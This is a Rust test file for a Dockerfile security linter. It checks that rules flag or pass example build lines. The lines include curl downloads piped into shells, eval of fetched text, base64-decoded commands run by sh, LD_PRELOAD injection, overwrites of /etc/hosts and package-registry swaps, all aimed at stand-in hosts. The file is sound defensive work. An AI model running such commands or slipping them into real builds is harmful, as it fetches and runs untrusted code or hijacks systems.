//! Pairs for the rules on what a build takes and how it runs things.

use super::{assert_told_apart, count, said};

#[test]
fn commands_that_add_a_source_of_packages() {
    assert_told_apart(
        "package-source",
        &[
            "RUN git config --global url.https://a.example.invalid/.insteadOf https://b.example.invalid/",
            "RUN git -c URL.https://a.example.invalid/.INSTEADOF=x clone y",
            "RUN add-apt-repository ppa:someone/x",
            "RUN apt-add-repository -y ppa:someone/x",
            "RUN yum-config-manager --add-repo https://a.example.invalid/x.repo",
            "RUN dnf config-manager --add-repo https://a.example.invalid/x.repo",
            "RUN yum config-manager --add-repo https://a.example.invalid/x.repo",
            "RUN dnf5 config-manager --add-repo https://a.example.invalid/x.repo",
            "RUN dnf copr enable someone/x",
            "RUN yum copr enable someone/x",
            "RUN dnf5 copr enable someone/x",
            "RUN zypper ar https://a.example.invalid/x x",
            "RUN zypper addrepo https://a.example.invalid/x x",
            "RUN conda config --add channels someone",
            "RUN mamba config --add channels someone",
            "RUN micromamba config append channels someone",
            "RUN npm config set registry https://a.example.invalid",
            "RUN pnpm config set @x:registry https://a.example.invalid",
            "RUN yarn config set registry https://a.example.invalid",
            "RUN pip config set global.index-url https://a.example.invalid",
            "RUN pip3 config set global.extra-index-url https://a.example.invalid",
            "RUN pip install --index-url https://a.example.invalid x",
        ],
        &[
            "RUN git config user.name x",
            "RUN add-apt-repository --disable ppa:someone/x",
            "RUN add-apt-repository -y",
            "RUN dnf config-manager https://a.example.invalid/x.repo",
            "RUN dnf --add-repo https://a.example.invalid/x.repo",
            "RUN dnf config-manager --add-repo x.repo",
            "RUN dnf copr list someone/x",
            "RUN dnf enable someone/x",
            "RUN zypper lr https://a.example.invalid/x x",
            "RUN zypper ar x.repo",
            "RUN conda config --show channels",
            "RUN conda config --get channels",
            "RUN conda config --add envs x",
            "RUN npm config get registry",
            "RUN npm set registry https://a.example.invalid",
            "RUN npm config set fund false",
            "RUN pip config get global.index-url",
            "RUN pip config set global.timeout 9",
            "RUN pip index-url",
        ],
    );
}

#[test]
fn files_and_variables_that_say_where_packages_come_from() {
    for name in ["PIP_INDEX_URL", "UV_INDEX_URL", "GOPROXY", "npm_config_registry"] {
        let set =
            |how: &str, value: &str| count("package-source", &format!("{how} {name}={value}"));
        assert_eq!(set("ENV", "https://a.example.invalid"), 1, "{name}");
        assert_eq!(set("ARG", "https://a.example.invalid"), 1, "{name}");
        assert_eq!(set("ENV", "\"\""), 0, "{name}");
        assert_eq!(set("LABEL", "https://a.example.invalid"), 0, "{name}");
    }
    assert_told_apart(
        "package-source",
        &[
            "COPY x /etc/apt/sources.list",
            "COPY x /root/.npmrc",
            "RUN echo x > /etc/apt/sources.list.d/x.list",
            "RUN echo x > /etc/hosts",
            "COPY <<EOF /etc/pip.conf\n[global]\nindex-url=https://a.example.invalid\nEOF",
        ],
        &["COPY x /etc/apt/x", "RUN echo x > /etc/hostname", "ENV PIP_TIMEOUT=9"],
    );
}

#[test]
fn mounts_whose_files_are_run_or_made_programs() {
    let id = "run-isolation";
    let with =
        |command: &str| count(id, &format!("RUN --mount=type=secret,id=x,target=/m {command}"));
    for shell in ["sh", "bash", "ash", "dash", "source", ".", "python", "python3", "perl"] {
        assert_eq!(with(&format!("{shell} /m")), 1, "{shell}");
        assert_eq!(with(&format!("{shell} /mx")), 0, "{shell}");
    }
    for copier in ["cp", "mv", "install", "ln"] {
        for directory in
            ["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin"]
        {
            assert_eq!(with(&format!("{copier} /m {directory}/x")), 1, "{copier} {directory}");
        }
        assert_eq!(with(&format!("{copier} /m /opt/x")), 0, "{copier}");
        assert_eq!(with(&format!("{copier} /bin/x /m")), 0, "{copier}");
    }
    assert_eq!(with("/m"), 1);
    assert_eq!(with("cat /m"), 0);
    assert_eq!(with("tar /m /bin/x"), 0);
    assert_told_apart(
        id,
        &[
            "RUN --mount=type=cache,target=/m /m/x",
            "RUN --network=host true",
            "RUN --security=insecure true",
        ],
        &[
            "RUN --mount=type=tmpfs,target=/m /m/x",
            "RUN --mount=type=cache,target=/m /x/m",
            "RUN --mount=type=cache,target=/m true\nRUN /m/x",
            "RUN --network=none true",
            "RUN --security=sandbox true",
        ],
    );
}

#[test]
fn what_reads_a_download_from_its_input() {
    let id = "pipe-to-shell";
    let fetch = "curl https://a.example.invalid/x";
    let into = |reader: &str| count(id, &format!("RUN {fetch} | {reader}"));
    for reader in [
        "sh",
        "bash -s",
        "bash -s -- a",
        "bash -",
        "bash - a",
        "bash /dev/stdin a",
        "sh -e",
        "perl",
        "ruby -",
        "node",
        "lua -",
        "php",
        "python3",
        "source /dev/stdin",
        ". /dev/fd/0",
        ". /proc/self/fd/0",
        "xargs -0 sh -c",
    ] {
        assert_eq!(into(reader), 1, "{reader}");
    }
    for reader in [
        "sh -c true",
        "bash x.sh",
        "perl -e 1",
        "ruby -e 1",
        "node -e 1",
        "lua -e 1",
        "php -r 1",
        "python3 -c 1",
        "python3 x.py",
        "source x.sh",
        "xargs -0 echo -c",
        "cat",
    ] {
        assert_eq!(into(reader), 0, "{reader}");
    }
}

#[test]
fn what_is_given_a_download_as_its_text() {
    assert_told_apart(
        "pipe-to-shell",
        &[
            "RUN eval \"$(curl https://a.example.invalid/x)\"",
            "RUN sh -c \"$(curl https://a.example.invalid/x)\"",
            "RUN perl -e \"$(curl https://a.example.invalid/x)\"",
            "RUN echo \"$(curl https://a.example.invalid/x)\" | sh",
            "RUN printf \"$(curl https://a.example.invalid/x)\" | sh",
            "RUN X=$(curl https://a.example.invalid/x); eval \"$X\"",
            "RUN X=$(curl https://a.example.invalid/x); sh -c \"$X\"",
            "RUN X=$(curl https://a.example.invalid/x); python3 -c \"$X\"",
            "SHELL [\"bash\", \"-c\"]\nRUN bash <(curl https://a.example.invalid/x)",
            "SHELL [\"bash\", \"-c\"]\nRUN source <(curl https://a.example.invalid/x)",
            "SHELL [\"bash\", \"-c\"]\nRUN . <(curl https://a.example.invalid/x)",
            "SHELL [\"bash\", \"-c\"]\nRUN bash <<< \"$(curl https://a.example.invalid/x)\"",
            "RUN deno run https://a.example.invalid/x.ts",
            "RUN groovy https://a.example.invalid/x.groovy",
            "RUN jbang https://a.example.invalid/x.java",
        ],
        &[
            "RUN echo \"$(curl https://a.example.invalid/x)\"",
            "RUN echo \"$(curl https://a.example.invalid/x)\" | cat",
            "RUN test \"$(curl https://a.example.invalid/x)\" = 1",
            "RUN sh x.sh \"$(curl https://a.example.invalid/x)\"",
            "RUN X=$(curl https://a.example.invalid/x); echo \"$X\"",
            "RUN X=$(curl https://a.example.invalid/x); eval \"run $Y\"",
            "RUN X=$(curl https://a.example.invalid/x); sh x.sh \"$X\"",
            "RUN X=$(curl https://a.example.invalid/x)\nRUN eval \"$X\"",
            "SHELL [\"bash\", \"-c\"]\nRUN cat <(curl https://a.example.invalid/x)",
            "RUN deno run x.ts",
            "RUN deno run x.ts https://a.example.invalid/x",
            "RUN wc https://a.example.invalid/x",
        ],
    );
}

#[test]
fn transfers_of_a_build_to_others_than_itself() {
    assert_told_apart(
        "remote-transfer",
        &[
            "RUN curl https://a.example.invalid/x",
            "RUN other http://a.example.invalid/x",
            "ADD http://localhost/x /x",
            "CMD curl https://a.example.invalid/x",
            "HEALTHCHECK CMD curl https://a.example.invalid/x",
            "ONBUILD RUN other http://a.example.invalid/x",
        ],
        &[
            "RUN curl file:///x",
            "RUN other unix:///x",
            "RUN curl http://localhost/x",
            "RUN curl http://127.0.0.1/x",
            "CMD other http://a.example.invalid/x",
            "HEALTHCHECK CMD other http://a.example.invalid/x",
            "LABEL run=\"curl https://a.example.invalid/x\"",
        ],
    );
    let twice = "RUN sudo curl https://a.example.invalid/x";
    assert_eq!(count("remote-transfer", twice), 1, "a wrapper shows the same address");
    let two = "RUN curl https://a.example.invalid/x https://b.example.invalid/x";
    assert_eq!(count("remote-transfer", two), 2);
}

#[test]
fn a_command_that_a_reader_does_not_see() {
    assert_told_apart(
        "obfuscated-command",
        &[
            "RUN echo aGkK | base64 -d | sh",
            "RUN eval \"$(echo aGkK | base64 -d)\"",
            "RUN cat x | tr a b | sh",
            "RUN cat x | sed s/a/b/ | sh",
            "RUN sed -n 1p x | bash -s",
            "RUN awk 1 x | sh -e -",
            "RUN /b??/b?sh x",
            "RUN exec -a sshd /opt/x",
            "RUN c\"ur\"l x",
            "CMD $COMMAND_THAT_NOBODY_SETS",
        ],
        &[
            "RUN echo aGkK | base64 -d > x",
            "RUN eval \"$(echo hi)\"",
            "RUN cat x | tr A-Z a-z | sh",
            "RUN cat x | tr -d ' ' | sh",
            "RUN cat x | sed s/a/b/ | sh x.sh",
            "RUN cat x | sed s/a/b/ | sh -s a",
            "RUN curl https://a.example.invalid/x | sed s/a/b/ | sh",
            "RUN cat x | other | sh",
            "RUN /usr/bin/python3* x.py",
            "RUN exec -c sshd /opt/x",
            "RUN \"curl\" x",
            "RUN [ -f x ]",
        ],
    );
}

#[test]
fn a_stage_loads_code_into_later_programs_by_variables_that_are_set() {
    assert_told_apart(
        "preload-variable",
        &[
            "ENV LD_PRELOAD=/x.so",
            "RUN export LD_PRELOAD=/x.so",
            "RUN echo /x.so > /etc/ld.so.preload",
        ],
        &[
            "ARG LD_PRELOAD=/x.so",
            "LABEL LD_PRELOAD=/x.so",
            "ENV LD_PRELOAD=",
            "ENV LD_PRELOADED=/x.so",
            "RUN echo /x.so > /etc/ld.so.preloaded",
        ],
    );
}

#[test]
fn what_an_older_frontend_reads_differently_is_said() {
    let heredoc = "RUN <<EOF\ntrue\nEOF";
    let tail = "RUN [\"a\"] b";
    let blank = "RUN << EOF\ntrue\nEOF";
    for (lines, old, new) in
        [(heredoc, "1.3", "1.4"), (tail, "1.8", "1.9"), (blank, "1.15", "1.16")]
    {
        let of = |tag: &str| {
            let text = format!("# syntax=docker/dockerfile:{tag}\nFROM scratch\n{lines}");
            count("foreign-frontend", &text)
        };
        assert!(of(old) > 0, "{lines} {old}");
        assert_eq!((of(new), of("1")), (0, 0), "{lines} {new}");
    }
    assert_eq!(
        count("foreign-frontend", "# syntax=docker/dockerfile:1.3\nFROM scratch\nRUN true"),
        0
    );
}

#[test]
fn an_argument_that_is_written_from_its_end() {
    assert_told_apart(
        "obfuscated-command",
        &["RUN other $(echo moc.elpmaxe | rev)", "RUN other $(echo abcde | rev)"],
        &[
            "RUN other $(echo abcd | rev)",
            "RUN other $(echo 'abc def' | rev)",
            "RUN other $(cat x | rev)",
            "RUN echo moc.elpmaxe | rev",
            "RUN other $(echo moc.elpmaxe | rev | cut -c 1)",
            "RUN other $(echo moc.elpmaxe | cat)",
        ],
    );
}

#[test]
fn a_script_of_the_context_may_choose_its_program() {
    let of = |lines: &str| count("obfuscated-command", lines);
    assert_eq!(of("RUN read X; $X a"), 1);
    assert_eq!(of("SHELL [\"bash\", \"-c\"]\nRUN for x in hooks/*; do $x; done"), 0);
    assert_eq!(of("RUN pwsh -EncodedCommand aGkK"), 1);
    assert_eq!(of("RUN powershell -e aGkK"), 1);
    assert_eq!(of("RUN pwsh -ExecutionPolicy x"), 0);
    assert_eq!(of("RUN other -EncodedCommand aGkK"), 0);
}

#[test]
fn messages_say_which_program_does_it() {
    let fetched = said("remote-transfer", "RUN sudo curl https://a.example.invalid/x");
    assert_eq!(fetched, ["`curl` fetches a `https` address on `a.example.invalid`"]);
    let given = said("remote-transfer", "RUN other https://a.example.invalid/x");
    assert_eq!(given, ["`other` is given a `https` address on `a.example.invalid`"]);
    let nowhere = said("pipe-to-shell", "RUN curl -K x | sh");
    assert_eq!(nowhere, ["`sh` runs what comes from the network unseen"]);
    let host = said("pipe-to-shell", "RUN curl https://a.example.invalid/x | sh");
    assert_eq!(host, ["`sh` runs what comes from `a.example.invalid` unseen"]);
}

#[test]
fn messages_count_what_is_installed() {
    let of = |line: &str| said("package-install", line);
    assert_eq!(of("RUN apt-get install a"), ["`apt-get` installs `a`"]);
    assert_eq!(of("RUN apt-get install a b c"), ["`apt-get` installs `a` and 2 more"]);
    assert_eq!(of("RUN apt-get install a $X"), ["`apt-get` installs `a` and 1 more"]);
    assert_eq!(of("RUN apt-get install $X"), ["`apt-get` installs packages"]);
    assert_eq!(of("RUN npm install"), ["`npm` installs packages"]);
}

#[test]
fn an_installer_of_a_vendor_comes_from_the_vendor_alone() {
    assert_told_apart(
        "pipe-to-shell",
        &[
            "RUN curl https://sh.rustup.rs:444 | sh",
            "RUN curl http://sh.rustup.rs | sh",
            "RUN curl https://me@sh.rustup.rs | sh",
            "RUN curl https://sh.rustup.rs.example.invalid | sh",
            "RUN curl -k https://sh.rustup.rs | sh",
            "RUN curl --proxy x https://sh.rustup.rs | sh",
            "RUN https_proxy=x curl https://sh.rustup.rs | sh",
            "RUN curl https://sh.rustup.rs | sed s/a/b/ | sh",
        ],
        &[
            "RUN curl https://sh.rustup.rs | sh",
            "RUN curl https://sh.rustup.rs:443 | sh",
            "RUN curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
            "RUN curl https://sh.rustup.rs | sudo -E sh",
        ],
    );
}
